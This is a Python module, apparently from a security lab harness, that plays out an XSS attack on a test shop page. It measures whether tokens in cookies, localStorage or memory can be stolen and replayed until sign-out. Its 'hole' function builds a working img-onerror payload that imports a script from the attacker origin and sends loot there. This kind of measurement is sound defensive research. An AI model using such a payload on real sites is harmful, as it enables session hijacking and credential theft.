"""Experiment 4, played: a script gets in through the page's hole, sends what it can to another origin, and the attacker replays it from there."""

from __future__ import annotations

import queue

import msgspec

from keyfob.lab.device import Credential, Device
from keyfob.lab.plays.browsing import Browsing, Loot, good_for, log_in, shop_page
from keyfob.lab.plays.replaying import Replaying
from keyfob.lab.processes import LabFailed
from keyfob.lab.readings.xss import InjectionSeen, XssSeen
from keyfob.lab.setups import Placement
from keyfob.lab.stage import Stage

ARRIVAL_SECONDS = 20.0
REPLAYS_BEFORE = 3  # of each credential, until the user signs out
_PLAYED = (Placement.COOKIE, Placement.LOCAL_STORAGE, Placement.MEMORY)


def play(stage: Stage, browsing: Browsing) -> XssSeen:
    """Inject into the page with the token in localStorage, in memory, and kept from the page, as far as the set-up has them.

    Raises:
        LabFailed: something did not answer.
    """
    placements = [placement for placement in stage.setup.placements if placement in _PLAYED]
    injections = [_injected(stage, browsing, placement) for placement in placements]
    return XssSeen(access_seconds=stage.access_seconds, injections=injections)


def _injected(stage: Stage, browsing: Browsing, placement: Placement) -> InjectionSeen:
    with shop_page(stage, browsing, placement, injected=hole(browsing.site.origin)) as tab:
        log_in(stage, tab)
        tab.evaluate("window.isInUse = true")
        loot = _arrived(browsing)
        if loot is None:
            return InjectionSeen(placement=placement, arrived=False, acted=False, tracks=[])
        thief = stage.device(agent="a thief")
        replaying = Replaying(stage, thief, _usable(stage, thief, loot))
        for _ in range(REPLAYS_BEFORE):
            replaying.once()
        if tab.evaluate("shop.logOut()") != 204:
            raise LabFailed(f"{stage.setup.name}: the page cannot sign out")
        replaying.signed_out()
        replaying.until_refused()
    return InjectionSeen(
        placement=placement, arrived=True, acted=loot.acted == 200, tracks=replaying.tracks()
    )


def hole(origin: str) -> str:
    """Return what stands in the address: an image that is not there, whose handler loads the script once the page is in use."""
    return (
        '<img src="/none" onerror="(async () => {'
        " while (!window.isInUse) await new Promise((wake) => setTimeout(wake, 10));"
        f" (await import('{origin}/thief.js')).run('{origin}/loot');"
        ' })()">'
    )


def _arrived(browsing: Browsing) -> Loot | None:
    try:
        return msgspec.json.decode(browsing.site.loot.get(timeout=ARRIVAL_SECONDS), type=Loot)
    except queue.Empty:
        return None


def _usable(stage: Stage, thief: Device, loot: Loot) -> dict[str, Credential]:
    """Return what the attacker can present, by the means that brought it; the same text once."""
    usable: dict[str, Credential] = {}
    for find in loot.found:
        credential = good_for(stage, thief, find.value)
        if credential is not None and credential not in usable.values():
            usable[f"{credential.kind}, by {find.means}"] = credential
    return usable
